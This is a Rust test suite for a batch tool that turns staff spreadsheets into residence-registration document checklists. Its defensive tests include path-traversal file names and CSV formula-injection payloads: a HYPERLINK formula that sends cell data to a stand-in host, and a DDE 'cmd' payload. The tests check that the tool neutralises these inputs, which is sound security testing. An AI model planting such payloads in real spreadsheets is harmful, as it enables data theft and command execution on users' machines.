//! `doclist batch` end to end on small sheets: mixed policies, bad rows, hostile names,
//! encodings, Excel, an interrupted run, the merge file and the summary's figures.

#[path = "common/tools.rs"]
mod tools;
use tools::{pdf_pages, ChildGuard, PDFINFO, PDFTOTEXT};

use assert_cmd::Command;
use std::path::{Path, PathBuf};

fn doclist() -> Command {
    Command::cargo_bin("doclist").expect("the binary is built")
}

const HEADER: &str = "policy,姓名,身份证号,channel,housing,proxy,disabled,registration_date,basis";

/// Two good rows of different policies and three bad ones.
fn mixed_rows() -> Vec<String> {
    vec![
        "shanghai/residence-registration,张三,310115199804120053,offline,rented,,,,".into(),
        "hangzhou/residence-permit,李四,330106198805090012,offline,owned,,,2025-01-10,residence"
            .into(),
        "shanghai/residence-registration,王五,310115199804120054,offline,rented,,,,".into(),
        "shanghai/residence-registration,赵六,,offline,castle,,,,".into(),
        "shanghai/residence-permt,钱七,,offline,owned,,,,".into(),
    ]
}

fn write_sheet(dir: &Path, name: &str, rows: &[String]) -> PathBuf {
    let mut text = String::from(HEADER);
    for r in rows {
        text.push('\n');
        text.push_str(r);
    }
    text.push('\n');
    let p = dir.join(name);
    std::fs::write(&p, text).unwrap();
    p
}

fn run_batch(sheet: &Path, out: &Path, extra: &[&str]) -> (i32, String) {
    let format = if extra.contains(&"--format") {
        &[][..]
    } else {
        &["--format", "json"][..]
    };
    let o = doclist()
        .env_remove("LC_ALL")
        .env_remove("LC_MESSAGES")
        .env("LANG", "zh_CN.UTF-8")
        .arg("batch")
        .arg(sheet)
        .arg("--out-dir")
        .arg(out)
        .args(["--date", "2026-11-23", "--jobs", "2"])
        .args(format)
        .args(extra)
        .output()
        .unwrap();
    (
        o.status.code().unwrap(),
        String::from_utf8_lossy(&o.stderr).to_string(),
    )
}

fn read_csv(path: &Path) -> Vec<Vec<String>> {
    let mut r = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_path(path)
        .unwrap();
    r.records()
        .map(|rec| rec.unwrap().iter().map(String::from).collect())
        .collect()
}

fn checklist_files(out: &Path) -> Vec<String> {
    let mut v: Vec<String> = std::fs::read_dir(out)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().to_string())
        .filter(|n| n.starts_with(|c: char| c.is_ascii_digit()))
        .collect();
    v.sort();
    v
}

#[test]
fn bad_rows_are_reported_and_the_rest_go_on() {
    let dir = tempfile::tempdir().unwrap();
    let sheet = write_sheet(dir.path(), "staff.csv", &mixed_rows());
    let out = dir.path().join("out");
    let (code, stderr) = run_batch(&sheet, &out, &[]);
    assert_eq!(code, 1, "exit 1 when a row failed: {stderr}");
    assert!(
        stderr.contains("共 5 行：可办理 2，暂不可办理 0，待确认 0，有错误 3"),
        "{stderr}"
    );
    assert!(stderr.contains("错误：3 行无法使用"), "{stderr}");
    assert_eq!(
        checklist_files(&out),
        ["00002-张三.json", "00003-李四.json"]
    );

    let errors = read_csv(&out.join("errors.csv"));
    assert_eq!(
        errors[0],
        ["行号", "姓名", "字段", "问题", "代码"],
        "BOM-prefixed CSV header"
    );
    let rows: Vec<(&str, &str, &str)> = errors[1..]
        .iter()
        .map(|e| (e[0].as_str(), e[1].as_str(), e[2].as_str()))
        .collect();
    assert_eq!(
        rows,
        [
            ("4", "王五", "id_number"),
            ("5", "赵六", "housing"),
            ("6", "钱七", "policy")
        ]
    );
    assert_eq!(
        errors[1][3],
        "身份证号第18位校验码应为 3，请核对是否有数字输错（现为 4）"
    );
    assert_eq!(errors[1][4], "id-check-digit");
    assert!(
        errors[2][3].starts_with("居住情况不能填“castle”；可填：owned（本人自购住房）"),
        "{:?}",
        errors[2]
    );
    assert!(
        errors[3][3].contains("（是否想填“shanghai/residence-permit”？）"),
        "{:?}",
        errors[3]
    );

    let summary = read_csv(&out.join("summary.csv"));
    assert_eq!(summary.len(), 6, "a header and a line per person");
    let status: Vec<&str> = summary[1..].iter().map(|r| r[3].as_str()).collect();
    assert_eq!(status, ["可办理", "可办理", "错误", "错误", "错误"]);
    assert_eq!(
        summary[3][8], errors[1][3],
        "the summary gives the same message"
    );
    let html = std::fs::read_to_string(out.join("summary.html")).unwrap();
    assert!(html.contains("共 5 人") && html.contains("有错误 3"));

    let json: serde_json::Value =
        serde_json::from_slice(&std::fs::read(out.join("00003-李四.json")).unwrap()).unwrap();
    assert_eq!(json["policy"]["id"], "hangzhou/residence-permit");
    assert_eq!(json["applicant"]["id_number"], "3301**********0012");
}

#[test]
fn blank_cells_are_unknown_and_give_if_applicable_items() {
    let dir = tempfile::tempdir().unwrap();
    let sheet = write_sheet(
        dir.path(),
        "s.csv",
        &["shanghai/residence-registration,孙八,310115199804120053,,owned,,,,".to_string()],
    );
    let out = dir.path().join("out");
    let (code, _) = run_batch(&sheet, &out, &[]);
    assert_eq!(code, 0);
    let json: serde_json::Value =
        serde_json::from_slice(&std::fs::read(out.join("00002-孙八.json")).unwrap()).unwrap();
    let items = json["items"].as_array().unwrap();
    let prop = items
        .iter()
        .find(|i| i["id"] == "property_certificate")
        .unwrap();
    assert_eq!(prop["conditional"], true);
    assert!(prop["condition"].as_str().unwrap().contains("办理途径"));
}

#[test]
fn hostile_and_duplicate_names_stay_inside_and_apart() {
    let dir = tempfile::tempdir().unwrap();
    let rows: Vec<String> = ["../../evil", "a/b\\c", "张三", "张三", "...", "CON"]
        .iter()
        .map(|n| format!("shanghai/residence-registration,{n},,offline,owned,,,,"))
        .collect();
    let sheet = write_sheet(dir.path(), "s.csv", &rows);
    let out = dir.path().join("out");
    let (code, stderr) = run_batch(&sheet, &out, &[]);
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(
        checklist_files(&out),
        [
            "00002-evil.json",
            "00003-a_b_c.json",
            "00004-张三.json",
            "00005-张三.json",
            "00006.json",
            "00007-CON.json"
        ]
    );
    assert!(!dir.path().join("evil.json").exists());
}

#[test]
fn formulas_in_names_are_never_written_as_formulas() {
    let dir = tempfile::tempdir().unwrap();
    let rows = vec![
        r#"shanghai/residence-registration,"=HYPERLINK(""http://x/?""&A1,""x"")",,offline,owned,,,,"#.to_string(),
        r#"shanghai/residence-registration,"+cmd|' /C calc'!A0",,offline,castle,,,,"#.to_string(),
        "shanghai/residence-registration,@SUM(A1),,offline,castle,,,,".to_string(),
        "shanghai/residence-registration,-1+2,,offline,owned,,,,".to_string(),
    ];
    let sheet = write_sheet(dir.path(), "s.csv", &rows);
    let out = dir.path().join("out");
    let (code, stderr) = run_batch(&sheet, &out, &[]);
    assert_eq!(code, 1, "{stderr}");
    let summary = read_csv(&out.join("summary.csv"));
    let names: Vec<&str> = summary[1..].iter().map(|r| r[1].as_str()).collect();
    assert_eq!(
        names,
        [
            r#"'=HYPERLINK("http://x/?"&A1,"x")"#,
            "'+cmd|' /C calc'!A0",
            "'@SUM(A1)",
            "'-1+2"
        ]
    );
    let errors = read_csv(&out.join("errors.csv"));
    assert_eq!(errors.len(), 3, "{errors:?}");
    assert_eq!(errors[1][1], "'+cmd|' /C calc'!A0");
    assert_eq!(errors[2][1], "'@SUM(A1)");
    for cell in summary.iter().chain(&errors).flatten() {
        let cell = cell.trim_start_matches('\u{feff}');
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "{cell:?}"
        );
    }
}

#[test]
fn gbk_and_bom_sheets_read_like_utf8() {
    let dir = tempfile::tempdir().unwrap();
    let rows = mixed_rows();
    let utf8 = write_sheet(dir.path(), "utf8.csv", &rows);
    let text = std::fs::read_to_string(&utf8).unwrap();
    let gbk = dir.path().join("gbk.csv");
    std::fs::write(&gbk, encoding_rs::GB18030.encode(&text).0).unwrap();
    let bom = dir.path().join("bom.csv");
    std::fs::write(&bom, [&[0xEF, 0xBB, 0xBF][..], text.as_bytes()].concat()).unwrap();
    let summaries: Vec<String> = [("u", &utf8), ("g", &gbk), ("b", &bom)]
        .iter()
        .map(|(tag, sheet)| {
            let out = dir.path().join(tag);
            run_batch(sheet, &out, &[]);
            std::fs::read_to_string(out.join("summary.csv")).unwrap()
        })
        .collect();
    assert!(summaries[0].contains("张三"));
    assert_eq!(summaries[0], summaries[1], "GBK detected");
    assert_eq!(summaries[0], summaries[2], "BOM skipped");
    // Forcing the wrong encoding: a clear error naming the row, never a silent `�`.
    let (code, stderr) = run_batch(&gbk, &dir.path().join("forced"), &["--encoding", "utf-8"]);
    assert_eq!(code, 2);
    assert!(
        stderr.contains("第 1 行有不是 UTF-8 文字的字节"),
        "{stderr}"
    );
}

#[test]
fn excel_sheets_are_read_directly() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("staff.xlsx");
    let mut book = rust_xlsxwriter::Workbook::new();
    let ws = book.add_worksheet();
    for (c, h) in [
        "policy",
        "姓名",
        "身份证号",
        "办理途径",
        "居住情况",
        "registration_date",
        "basis",
    ]
    .iter()
    .enumerate()
    {
        ws.write_string(0, c as u16, *h).unwrap();
    }
    ws.write_string(1, 0, "hangzhou/residence-permit").unwrap();
    ws.write_string(1, 1, "周堃").unwrap();
    ws.write_string(1, 2, "330106198805090012").unwrap();
    ws.write_string(1, 3, "offline").unwrap();
    ws.write_string(1, 4, "自购房（含公寓）").unwrap();
    let date = rust_xlsxwriter::ExcelDateTime::from_ymd(2025, 1, 10).unwrap();
    let fmt = rust_xlsxwriter::Format::new().set_num_format("yyyy-mm-dd");
    ws.write_datetime_with_format(1, 5, &date, &fmt).unwrap();
    ws.write_string(1, 6, "residence").unwrap();
    ws.write_string(2, 0, "shanghai/residence-registration")
        .unwrap();
    ws.write_string(2, 1, "吴喆").unwrap();
    ws.write_number(2, 2, 310115199804120053.0).unwrap();
    book.save(&path).unwrap();

    let out = dir.path().join("out");
    let (code, stderr) = run_batch(&path, &out, &[]);
    assert_eq!(code, 1, "{stderr}");
    assert_eq!(checklist_files(&out), ["00002-周堃.json"]);
    let json: serde_json::Value =
        serde_json::from_slice(&std::fs::read(out.join("00002-周堃.json")).unwrap()).unwrap();
    let facts = json["applicant"]["facts"].as_array().unwrap();
    let reg = facts
        .iter()
        .find(|f| f["key"] == "registration_date")
        .unwrap();
    assert_eq!(
        reg["value"], "2025-01-10",
        "an Excel date cell reads as a date"
    );
    let errors = std::fs::read_to_string(out.join("errors.csv")).unwrap();
    // An ID typed as a number has lost its last digits in Excel: said as such, not
    // blamed on a mistyped check digit.
    assert!(errors.contains("3,吴喆"), "{errors}");
    assert!(
        errors.contains("C 列") && errors.contains("身份证号被存成了数字"),
        "{errors}"
    );
    assert!(errors.contains("设为“文本”"), "{errors}");
    assert!(!errors.contains("校验码"), "{errors}");
}

#[test]
fn a_bad_date_in_a_row_gives_a_chinese_errors_csv_line() {
    let dir = tempfile::tempdir().unwrap();
    let rows = vec![
        "shanghai/residence-permit,孙八,,offline,rented,,,2001-02-30,".to_string(),
        "shanghai/residence-registration,张三,310115199804120053,offline,rented,,,,".to_string(),
    ];
    let sheet = write_sheet(dir.path(), "dates.csv", &rows);
    let out = dir.path().join("out");
    let (code, stderr) = run_batch(&sheet, &out, &[]);
    assert_eq!(code, 1, "{stderr}");
    let errors = read_csv(&out.join("errors.csv"));
    assert_eq!(
        errors[1],
        [
            "2",
            "孙八",
            "registration_date",
            "居住登记日期“2001-02-30”不是真实存在的日期（日历上没有这一天），请写作 YYYY-MM-DD",
            "value-date-unreal"
        ]
    );
    assert_eq!(
        checklist_files(&out),
        ["00003-张三.json"],
        "the next row goes on"
    );
}

#[test]
fn unknown_column_stops_before_any_row() {
    let dir = tempfile::tempdir().unwrap();
    let sheet = dir.path().join("s.csv");
    std::fs::write(
        &sheet,
        "policy,name,housng\nshanghai/residence-registration,a,owned\n",
    )
    .unwrap();
    let (code, stderr) = run_batch(&sheet, &dir.path().join("out"), &[]);
    assert_eq!(code, 2);
    assert!(
        stderr.contains("第 3 列“housng”不是申请人信息的列名（是否想填“housing”？）"),
        "{stderr}"
    );
}

#[test]
fn the_csv_template_explains_its_columns_and_reads_back_without_them() {
    let o = doclist()
        .args([
            "batch",
            "--template-csv",
            "--policy",
            "shanghai/residence-registration",
        ])
        .output()
        .unwrap();
    assert!(o.status.success());
    let text = String::from_utf8(o.stdout).unwrap();
    let rows: Vec<Vec<String>> = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.trim_start_matches('\u{feff}').as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect();
    assert_eq!(rows.len(), 3, "{text}");
    let (header, how, example) = (&rows[0], &rows[1], &rows[2]);
    assert_eq!(&header[..3], ["姓名", "身份证号", "出生日期"], "{text}");
    assert!(header.contains(&"居住情况".to_string()), "{text}");
    assert!(how[0].starts_with("【填写说明】"), "{text}");
    let housing = header.iter().position(|h| h == "居住情况").unwrap();
    assert!(
        how[housing].contains("自购房") || how[housing].contains("租"),
        "{text}"
    );
    assert!(example[0].starts_with("【示例】"), "{text}");

    // The template as it comes names nobody; a row like the example is one good person.
    let dir = tempfile::tempdir().unwrap();
    let mut person = example.clone();
    person[0] = "李四".to_string();
    let mut sheet = text.clone();
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record(&person).unwrap();
    sheet.push_str(&String::from_utf8(w.into_inner().unwrap()).unwrap());
    let path = dir.path().join("staff.csv");
    std::fs::write(&path, sheet).unwrap();
    let out = dir.path().join("out");
    let (code, stderr) = run_batch(
        &path,
        &out,
        &["--policy", "shanghai/residence-registration"],
    );
    assert_eq!(code, 0, "{stderr}");
    let made = checklist_files(&out);
    assert_eq!(made.len(), 1, "{made:?}");
    assert!(made[0].contains("李四"), "{made:?}");
}

#[test]
fn json_lines_put_everyone_in_one_file_in_sheet_order() {
    let dir = tempfile::tempdir().unwrap();
    // Enough rows for several chunks on two workers, and bad rows among them.
    let mut rows = gen_rows(150);
    rows[7] = "shanghai/residence-registration,坏行,,offline,castle,,,,".into();
    rows[100] = "shanghai/residence-permt,错政策,,offline,owned,,,,".into();
    let sheet = write_sheet(dir.path(), "staff.csv", &rows);
    let out = dir.path().join("out");
    let (code, stderr) = run_batch(&sheet, &out, &["--format", "jsonl"]);
    assert_eq!(code, 1, "{stderr}");
    assert!(checklist_files(&out).is_empty(), "no file per person");

    let text = std::fs::read_to_string(out.join("checklists.jsonl")).unwrap();
    let lines: Vec<serde_json::Value> = text
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 148);
    let numbers: Vec<u64> = lines.iter().map(|l| l["row"].as_u64().unwrap()).collect();
    let expected: Vec<u64> = (2..152).filter(|r| *r != 9 && *r != 102).collect();
    assert_eq!(numbers, expected, "sheet rows in order, bad ones left out");
    // Each line carries the checklist of `render --format json`.
    assert_eq!(lines[0]["checklist"]["applicant"]["name"], "员工0");
    assert_eq!(
        lines[0]["checklist"]["policy"]["id"],
        "shanghai/residence-registration"
    );
    assert!(lines[1]["checklist"]["items"].as_array().unwrap().len() > 1);

    let summary = read_csv(&out.join("summary.csv"));
    assert_eq!(summary[0][7..9], ["文件", "错误"]);
    let ok = summary[1..].iter().filter(|r| r[8].is_empty()).count();
    assert_eq!(ok, 148);
    assert!(summary[1..]
        .iter()
        .filter(|r| r[8].is_empty())
        .all(|r| r[7] == "checklists.jsonl"));
    let errors = read_csv(&out.join("errors.csv"));
    let bad: Vec<&str> = errors[1..].iter().map(|r| r[0].as_str()).collect();
    assert_eq!(bad, ["9", "102"]);
}

fn gen_rows(n: usize) -> Vec<String> {
    (0..n)
        .map(|i| {
            let housing = ["owned", "rented", "relative_owned", "dormitory"][i % 4];
            format!("shanghai/residence-registration,员工{i},,offline,{housing},,,,")
        })
        .collect()
}

#[test]
fn an_interrupted_run_leaves_no_half_written_file_and_a_rerun_completes_it() {
    let dir = tempfile::tempdir().unwrap();
    let sheet = write_sheet(dir.path(), "big.csv", &gen_rows(400));
    let out = dir.path().join("out");
    let mut child = ChildGuard::spawn(
        std::process::Command::new(assert_cmd::cargo::cargo_bin("doclist"))
            .arg("batch")
            .arg(&sheet)
            .arg("--out-dir")
            .arg(&out)
            .args([
                "--date",
                "2026-11-23",
                "--format",
                "pdf",
                "--jobs",
                "2",
                "--quiet",
            ]),
    );
    // Stop it part-way: as soon as some files are there.
    for _ in 0..400 {
        std::thread::sleep(std::time::Duration::from_millis(5));
        if out.exists() && checklist_files(&out).len() >= 5 {
            break;
        }
    }
    child.kill().unwrap();
    child.wait().unwrap();
    let partial = checklist_files(&out);
    assert!(
        !partial.is_empty() && partial.len() < 400,
        "killed part-way: {}",
        partial.len()
    );
    for f in &partial {
        let bytes = std::fs::read(out.join(f)).unwrap();
        assert!(
            bytes.starts_with(b"%PDF-") && bytes.trim_ascii_end().ends_with(b"%%EOF"),
            "{f} is whole"
        );
    }
    let (code, _) = run_batch(&sheet, &out, &["--format", "pdf"]);
    assert_eq!(code, 0);
    assert_eq!(checklist_files(&out).len(), 400);
    let leftovers = std::fs::read_dir(&out)
        .unwrap()
        .filter(|e| {
            e.as_ref()
                .unwrap()
                .file_name()
                .to_string_lossy()
                .starts_with(".doclist-")
        })
        .count();
    assert_eq!(
        leftovers,
        0,
        "temporary files of the killed run are cleaned up: {:?}",
        std::fs::read_dir(&out)
            .unwrap()
            .map(|e| e.unwrap().file_name())
            .filter(|n| !n.to_string_lossy().starts_with('0'))
            .collect::<Vec<_>>()
    );
    // The same batch again gives the same files.
    let clean = dir.path().join("clean");
    let (code, stderr) = run_batch(&sheet, &clean, &["--format", "pdf"]);
    assert_eq!(code, 0, "{stderr}");
    let written = checklist_files(&clean);
    assert_eq!(written.len(), 400, "every person again");
    for f in written {
        assert_eq!(
            std::fs::read(clean.join(&f)).unwrap(),
            std::fs::read(out.join(&f)).unwrap(),
            "{f}"
        );
    }
}

#[test]
fn merge_file_has_everyone_and_duplex_pads_to_front_sides() {
    if tools::missing(
        "merge_file_has_everyone_and_duplex_pads_to_front_sides",
        &[PDFINFO, PDFTOTEXT],
    ) {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let sheet = write_sheet(dir.path(), "s.csv", &gen_rows(5));
    let out = dir.path().join("out");
    let merged = dir.path().join("all.pdf");
    let (code, stderr) = run_batch(
        &sheet,
        &out,
        &["--format", "pdf", "--merge", merged.to_str().unwrap()],
    );
    assert_eq!(code, 0, "{stderr}");
    let singles: Vec<usize> = checklist_files(&out)
        .iter()
        .map(|f| pdf_pages(&out.join(f)))
        .collect();
    assert_eq!(singles.len(), 5);
    assert_eq!(pdf_pages(&merged), singles.iter().sum::<usize>());

    let duplex = dir.path().join("duplex.pdf");
    run_batch(
        &sheet,
        &out,
        &[
            "--format",
            "pdf",
            "--merge",
            duplex.to_str().unwrap(),
            "--duplex",
        ],
    );
    let padded: usize = singles[..4].iter().map(|p| p + p % 2).sum::<usize>() + singles[4];
    assert_eq!(pdf_pages(&duplex), padded);
    let text = tools::pdftotext(&[], &merged);
    for i in 0..5 {
        assert!(
            text.contains(&format!("员工{i}")),
            "person {i} is in the merge file"
        );
    }
}

#[test]
fn the_summary_tells_apart_yes_no_and_depends_with_what_it_depends_on() {
    let dir = tempfile::tempdir().unwrap();
    let sheet = dir.path().join("three.csv");
    // A Hangzhou employee, registered 2026-09-01, 3 months of social insurance, the
    // talent-permit column empty: refused at the counter unless they hold one. A row that
    // answers nothing. A row that can apply. A row that cannot.
    std::fs::write(
        &sheet,
        "办理事项,姓名,申领依据,居住登记日期,社保连续缴纳月数,持人才居住证,出生日期\n\
         hangzhou/residence-permit,周一,employment,2026-09-01,3,,1990-01-01\n\
         hangzhou/residence-registration,,,,,,\n\
         hangzhou/residence-permit,吴二,employment,2025-09-01,12,否,1990-01-01\n\
         hangzhou/residence-permit,郑三,employment,2026-09-01,3,否,1990-01-01\n",
    )
    .unwrap();
    let out = dir.path().join("out");
    let (code, stderr) = run_batch(&sheet, &out, &[]);
    assert_eq!(code, 0, "{stderr}");
    assert!(
        stderr.contains("可办理 1，暂不可办理 1，待确认 2"),
        "{stderr}"
    );
    let csv = std::fs::read_to_string(out.join("summary.csv")).unwrap();
    let status: Vec<String> = csv
        .lines()
        .skip(1)
        .map(|l| l.split(',').nth(3).unwrap().to_string())
        .collect();
    assert_eq!(status[0], "待确认（取决于：持人才居住证）", "{csv}");
    assert!(status[1].starts_with("待确认（取决于：居住情况"), "{csv}");
    assert_eq!(status[2], "可办理", "{csv}");
    assert_eq!(status[3], "暂不可办理", "{csv}");
    let html = std::fs::read_to_string(out.join("summary.html")).unwrap();
    assert!(html.contains("待确认 2"), "{html}");
    assert!(html.contains("待确认（取决于：持人才居住证）"), "{html}");
    let json: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(out.join("00002-周一.json")).unwrap())
            .unwrap();
    assert_eq!(json["eligible"], serde_json::Value::Null);
    assert_eq!(
        json["eligibility"]["depends_on"][0]["fact"],
        "talent_permit"
    );
    assert_eq!(
        json["eligibility"]["depends_on"][0]["blocking"],
        serde_json::json!([false])
    );
    let ics = std::fs::read_to_string(out.join("calendar.ics")).unwrap();
    let unfolded = ics.replace("\r\n ", "");
    assert!(
        unfolded.contains("是否符合办理条件取决于：持人才居住证"),
        "{unfolded}"
    );
}
